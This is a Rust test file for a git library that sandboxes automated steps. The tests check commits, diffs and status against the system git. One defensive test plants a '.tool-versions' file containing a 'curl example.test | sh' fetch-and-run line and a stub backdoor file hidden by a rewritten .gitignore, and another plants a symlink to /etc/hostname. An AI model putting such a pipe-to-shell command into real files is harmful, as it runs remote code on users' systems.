//! The host's git against real repositories: what it stages, diffs and commits is checked with
//! the system's git (the tests' own tool, never cordon's), and every attack is judged on the host —
//! a canary outside the workspace never reaches an object, a planted program never runs, nothing
//! is written through a planted link.

mod attacks;
mod carry;
mod guard;
mod parallel;
mod private;
mod support;

use cordon_git::{Ignoring, PatchLimits, StatCache};
use support::{Fixture, git, git_out};

#[test]
fn a_commit_records_what_git_add_all_would() {
    let fx = Fixture::new();
    fx.write("src/lib.rs", "pub fn one() {}\n");
    fx.write("README.md", "readme\n");
    fx.write("gone.txt", "bye\n");
    fx.commit_all("base");
    fx.write("src/lib.rs", "pub fn one() {}\npub fn two() {}\n");
    fx.write("src/new.rs", "// new\n");
    fx.write("run.sh", "#!/bin/sh\n");
    fx.chmod("run.sh", 0o755);
    fx.remove("gone.txt");
    fx.symlink("../README.md", "src/readme-link");
    fx.write(".gitignore", "target/\n*.log\n");
    fx.write("target/debug/out", "built\n");
    fx.write("x.log", "log\n");

    // The peer: git's own staging of the same work tree, in a copy.
    let peer = fx.copy();
    git(&peer, &["add", "-A"]);
    let expected = git_out(&peer, &["write-tree"]);

    let repo = fx.repo();
    let committed = repo
        .commit(
            &fx.view(),
            "change",
            "Cordon-Run: test",
            &[],
            &mut StatCache::default(),
        )
        .unwrap()
        .unwrap();
    assert!(committed.created);
    assert_eq!(
        git_out(fx.path(), &["rev-parse", "HEAD^{tree}"]),
        expected,
        "the committed tree is git's"
    );
    let mut files = committed.files.clone();
    files.sort();
    assert_eq!(
        files,
        [
            ".gitignore",
            "gone.txt",
            "run.sh",
            "src/lib.rs",
            "src/new.rs",
            "src/readme-link"
        ]
    );
    // The index matches the commit: git sees a clean work tree without refreshing anything.
    assert_eq!(git_out(fx.path(), &["status", "--porcelain"]), "");
    assert_eq!(git_out(fx.path(), &["diff-index", "--cached", "HEAD"]), "");
    git(fx.path(), &["fsck", "--strict", "--no-dangling"]);
    let message = git_out(fx.path(), &["log", "-1", "--format=%B"]);
    assert!(
        message.starts_with("change\n\nCordon-Run: test"),
        "{message}"
    );
    let reflog = git_out(fx.path(), &["reflog", "-1", "--format=%gs"]);
    assert_eq!(reflog, "cordon: commit action");
    let author = git_out(fx.path(), &["log", "-1", "--format=%an <%ae>"]);
    assert_eq!(author, "Test Author <author@example.test>");
}

#[test]
fn a_commit_is_idempotent_by_its_trailer() {
    let fx = Fixture::new();
    fx.write("a", "1\n");
    fx.commit_all("base");
    fx.write("a", "2\n");
    let repo = fx.repo();
    let mut cache = StatCache::default();
    let first = repo
        .commit(&fx.view(), "one", "Cordon-Run: r1", &[], &mut cache)
        .unwrap()
        .unwrap();
    fx.write("a", "3\n");
    let again = repo
        .commit(&fx.view(), "one", "Cordon-Run: r1", &[], &mut cache)
        .unwrap()
        .unwrap();
    assert_eq!(again.sha, first.sha);
    assert!(!again.created);
    // Nothing to commit is not a commit.
    let other = fx.repo();
    git(fx.path(), &["checkout", "--", "a"]);
    assert_eq!(
        other
            .commit(
                &fx.view(),
                "two",
                "Cordon-Run: r2",
                &[],
                &mut StatCache::default()
            )
            .unwrap(),
        None
    );
}

#[test]
fn tooling_and_artifacts_keep_their_committed_content() {
    let fx = Fixture::new();
    fx.write("pipeline.yaml", "name: p\n");
    fx.write("agents/dev.agent.md", "agent\n");
    fx.commit_all("base");
    fx.write("pipeline.yaml", "name: p\nnetwork: open\n");
    fx.write("agents/dev.agent.md", "rewritten\n");
    fx.write("agents/new.agent.md", "planted\n");
    fx.write("review.md", "VERDICT: APPROVED\n");
    fx.write("code.rs", "fn main() {}\n");
    let exclude =
        ["pipeline.yaml", "agents", "review.md"].map(|p| cordon_workspace::WsPath::new(p).unwrap());
    let committed = fx
        .repo()
        .commit(
            &fx.view(),
            "work",
            "Cordon-Run: t",
            &exclude,
            &mut StatCache::default(),
        )
        .unwrap()
        .unwrap();
    assert_eq!(committed.files, ["code.rs"]);
    assert_eq!(
        git_out(fx.path(), &["show", "HEAD:pipeline.yaml"]),
        "name: p"
    );
    assert_eq!(
        git_out(fx.path(), &["show", "HEAD:agents/dev.agent.md"]),
        "agent"
    );
    let tree = git_out(fx.path(), &["ls-tree", "-r", "--name-only", "HEAD"]);
    assert_eq!(tree, "agents/dev.agent.md\ncode.rs\npipeline.yaml");
    // The work tree's differing tooling shows as modified: the index holds the committed tree.
    let status = git_out(fx.path(), &["status", "--porcelain"]);
    assert_eq!(
        status,
        " M agents/dev.agent.md\n M pipeline.yaml\n?? agents/new.agent.md\n?? review.md"
    );
}

#[test]
fn the_diff_is_a_patch_git_applies() {
    let fx = Fixture::new();
    fx.write("a.txt", "one\ntwo\nthree\nfour\nfive\nsix\nseven\neight\n");
    fx.write("b.txt", "keep\n");
    fx.write("bin.dat", "x");
    fx.write("mode.sh", "echo\n");
    fx.write("nl-at-end", "no newline");
    fx.commit_all("base");
    fx.write("a.txt", "one\nTWO\nthree\nfour\nfive\nsix\nSEVEN\neight\n");
    fx.remove("b.txt");
    fx.write_bytes("bin.dat", b"\x00\x01binary");
    fx.chmod("mode.sh", 0o755);
    fx.write("nl-at-end", "no newline, still");
    fx.write("dir/new.txt", "fresh\n");
    fx.symlink("a.txt", "link");
    let diff = fx.diff_with(&fx.repo()).unwrap();
    let patch = String::from_utf8(diff.patch.clone()).unwrap();
    assert!(patch.contains("-two\n+TWO\n"), "{patch}");
    assert!(
        patch.contains("Binary files a/bin.dat and b/bin.dat differ"),
        "{patch}"
    );
    assert!(
        patch.contains("old mode 100644\nnew mode 100755"),
        "{patch}"
    );
    assert!(patch.contains("\\ No newline at end of file"), "{patch}");
    // Applied to a fresh checkout of HEAD, the text changes reproduce the work tree.
    let peer = fx.clone_head();
    std::fs::write(peer.join("change.patch"), &diff.patch).unwrap();
    git(&peer, &["apply", "--exclude=bin.dat", "change.patch"]);
    for file in ["a.txt", "nl-at-end", "dir/new.txt"] {
        assert_eq!(
            std::fs::read(peer.join(file)).unwrap(),
            std::fs::read(fx.path().join(file)).unwrap(),
            "{file}"
        );
    }
    assert!(!peer.join("b.txt").exists());
    assert_eq!(
        std::fs::read_link(peer.join("link")).unwrap(),
        std::path::Path::new("a.txt")
    );
    let letters: String = diff.changes.iter().map(|(_, c)| c.letter()).collect();
    assert_eq!(letters, "MDMAAMM");
}

#[test]
fn the_diff_shows_files_a_step_hid_with_its_own_gitignore() {
    let fx = Fixture::new();
    fx.write(".gitignore", "*.log\n");
    fx.write("src/main.rs", "fn main() {}\n");
    fx.commit_all("base");
    fx.write(".gitignore", "*.log\n.tool-versions\nsrc/backdoor.rs\n");
    fx.write(".tool-versions", "curl example.test | sh\n");
    fx.write("src/backdoor.rs", "// planted\n");
    fx.write("debug.log", "ignored by the committed rules\n");
    let repo = fx.repo();
    let diff = fx.diff_with(&repo).unwrap();
    let paths: Vec<String> = diff
        .changes
        .iter()
        .map(|(p, _)| String::from_utf8_lossy(p).into_owned())
        .collect();
    assert_eq!(paths, [".gitignore", ".tool-versions", "src/backdoor.rs"]);
    // Control: the commit follows the work tree's own rules, as `git add -A` does.
    let head = repo.head_flat().unwrap();
    let staged = repo
        .snapshot(
            &fx.view(),
            &head,
            Ignoring::WorkTree,
            &mut StatCache::default(),
        )
        .unwrap();
    assert!(!staged.entries.contains_key(&b".tool-versions"[..]));
}

#[test]
fn a_large_file_is_named_not_diffed_and_the_patch_is_capped() {
    let fx = Fixture::new();
    fx.write("small.txt", "a\n");
    fx.commit_all("base");
    fx.write("large.txt", &"x".repeat(2 << 20));
    let file = std::fs::File::create(fx.path().join("huge.txt")).unwrap();
    file.set_len(64 << 20).unwrap();
    for i in 0..50 {
        fx.write(&format!("many/f{i:02}.txt"), &"line\n".repeat(200));
    }
    let limits = PatchLimits {
        total: 8 << 10,
        file: 1 << 20,
    };
    let diff = fx
        .repo()
        .diff(&fx.view(), &mut StatCache::default(), limits)
        .unwrap();
    let patch = String::from_utf8(diff.patch.clone()).unwrap();
    assert!(
        patch.contains("Large files a/large.txt and b/large.txt differ (2097152 bytes"),
        "{patch}"
    );
    // A sparse file is not read at all: its holes would cost the host what the step never paid.
    assert!(
        patch.contains("not recorded: huge.txt (67108864 bytes, sparse or larger than"),
        "{patch}"
    );
    assert_eq!(diff.skipped.len(), 1);
    assert!(
        patch.contains("more changed files not shown; the patch is capped at 8192 bytes"),
        "{patch}"
    );
    assert!(patch.len() < 16 << 10);
}

#[test]
fn unchanged_files_are_not_read_again() {
    let fx = Fixture::new();
    fx.write("a.txt", "a\n");
    fx.commit_all("base");
    fx.write("a.txt", "changed\n");
    let repo = fx.repo();
    let head = repo.head_flat().unwrap();
    let mut cache = StatCache::default();
    let first = repo
        .snapshot(&fx.view(), &head, Ignoring::WorkTreeAndHead, &mut cache)
        .unwrap();
    assert_eq!(first.read, 8, "the first snapshot reads the changed file");
    let second = repo
        .snapshot(&fx.view(), &head, Ignoring::WorkTreeAndHead, &mut cache)
        .unwrap();
    assert_eq!(second.flat(), first.flat());
    assert_eq!(second.read, 0, "an unchanged file is answered by the cache");
    // Control: a metadata change (chmod moves ctime) is read again, and so is a fresh cache.
    fx.chmod("a.txt", 0o600);
    let after_chmod = repo
        .snapshot(&fx.view(), &head, Ignoring::WorkTreeAndHead, &mut cache)
        .unwrap();
    assert_eq!(after_chmod.read, 8);
    let uncached = repo
        .snapshot(
            &fx.view(),
            &head,
            Ignoring::WorkTreeAndHead,
            &mut StatCache::default(),
        )
        .unwrap();
    assert_eq!(uncached.read, 8);
    assert_eq!(uncached.flat(), first.flat());
}

#[test]
fn dirty_paths_match_git_status() {
    let fx = Fixture::new();
    fx.write("tracked.txt", "1\n");
    fx.write("staged.txt", "1\n");
    fx.write(".gitignore", "ignored/\n");
    fx.commit_all("base");
    let repo = fx.repo();
    assert!(
        repo.dirty_paths(&fx.view(), &mut StatCache::default())
            .unwrap()
            .is_empty()
    );
    fx.write("tracked.txt", "2\n");
    fx.write("new.txt", "n\n");
    fx.write("ignored/x", "x\n");
    // Staged, then reverted in the work tree: only the index differs.
    fx.write("staged.txt", "2\n");
    git(fx.path(), &["add", "staged.txt"]);
    fx.write("staged.txt", "1\n");
    let dirty = repo
        .dirty_paths(&fx.view(), &mut StatCache::default())
        .unwrap();
    assert_eq!(dirty, ["new.txt", "staged.txt", "tracked.txt"]);
    let mut peer: Vec<String> = git_out(fx.path(), &["status", "--porcelain"])
        .lines()
        .map(|l| l[3..].to_owned())
        .collect();
    peer.sort();
    assert_eq!(
        peer,
        ["new.txt", "staged.txt", "tracked.txt"].map(String::from)
    );
}

#[test]
fn tooling_must_be_committed_unchanged_regular_files() {
    let fx = Fixture::new();
    fx.write("pipeline.yaml", "name: p\n");
    fx.write("agents/a.md", "x\n");
    fx.symlink("pipeline.yaml", "linked.yaml");
    fx.commit_all("base");
    fx.write("untracked.md", "u\n");
    let repo = fx.repo();
    let path = |p: &str| cordon_workspace::WsPath::new(p).unwrap();
    repo.check_tooling(&fx.view(), &[path("pipeline.yaml"), path("agents/a.md")])
        .unwrap();
    let err = repo
        .check_tooling(&fx.view(), &[path("untracked.md")])
        .unwrap_err();
    assert!(
        err.to_string().contains("`untracked.md` is not tracked"),
        "{err}"
    );
    let err = repo
        .check_tooling(&fx.view(), &[path("linked.yaml")])
        .unwrap_err();
    assert!(err.to_string().contains("is a symbolic link"), "{err}");
    fx.write("agents/a.md", "y\n");
    let err = repo
        .check_tooling(&fx.view(), &[path("agents/a.md")])
        .unwrap_err();
    assert!(err.to_string().contains("has uncommitted changes"), "{err}");
    git(fx.path(), &["checkout", "--", "agents/a.md"]);
    fx.remove("pipeline.yaml");
    fx.symlink("/etc/hostname", "pipeline.yaml");
    let err = repo
        .check_tooling(&fx.view(), &[path("pipeline.yaml")])
        .unwrap_err();
    assert!(
        err.to_string()
            .contains("is a symbolic link in the work tree"),
        "{err}"
    );
}

#[test]
fn a_repository_without_a_commit_is_named() {
    let fx = Fixture::new();
    let err = fx.repo().head().unwrap_err();
    assert!(err.to_string().contains("no commit yet"), "{err}");
    assert!(err.is_usage());
}

#[test]
fn a_linked_worktree_commits_to_its_own_branch() {
    let fx = Fixture::new();
    fx.write("a", "1\n");
    fx.commit_all("base");
    let linked = fx.path().parent().unwrap().join("linked");
    git(
        fx.path(),
        &[
            "worktree",
            "add",
            "-q",
            "-b",
            "side",
            linked.to_str().unwrap(),
        ],
    );
    std::fs::write(linked.join("a"), "2\n").unwrap();
    let dirs = cordon_git::Dirs {
        git_dir: fx.path().join(".git/worktrees/linked"),
        common_dir: fx.path().join(".git"),
    };
    let view = cordon_workspace::View::open(&linked).unwrap();
    let scratch = tempfile::tempdir().unwrap();
    let repo = cordon_git::Repo::open(
        &view,
        dirs,
        Some(scratch.path()),
        cordon_git::Identity::default(),
        cordon_git::Guard::default(),
    )
    .unwrap();
    let committed = repo
        .commit(
            &view,
            "side",
            "Cordon-Run: w",
            &[],
            &mut StatCache::default(),
        )
        .unwrap()
        .unwrap();
    assert_eq!(git_out(&linked, &["rev-parse", "side"]), committed.sha);
    assert_ne!(git_out(fx.path(), &["rev-parse", "HEAD"]), committed.sha);
    assert_eq!(git_out(&linked, &["status", "--porcelain"]), "");
}

mod names {
    use proptest::prelude::*;

    proptest! {
        #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

        /// Names with newlines, tabs, escapes, dots and slashes, long or short: staged and read
        /// back unchanged, nothing injected.
        #[test]
        fn any_work_tree_name_survives_staging(raw in prop::collection::vec(
            prop::collection::vec(any::<u8>(), 1..300),
            0..20,
        )) {
            const ALPHABET: &[u8] = b"\n\t\x1b./\"\\ \xe9abcdefghijklmnopqrstuvwxyz";
            let names: Vec<Vec<u8>> = raw
                .iter()
                .map(|name| name.iter().map(|&b| ALPHABET[usize::from(b) % ALPHABET.len()]).collect())
                .collect();
            let names: Vec<&[u8]> = names.iter().map(Vec::as_slice).collect();
            prop_assert!(cordon_git::fuzz_stage(&names));
        }
    }
}
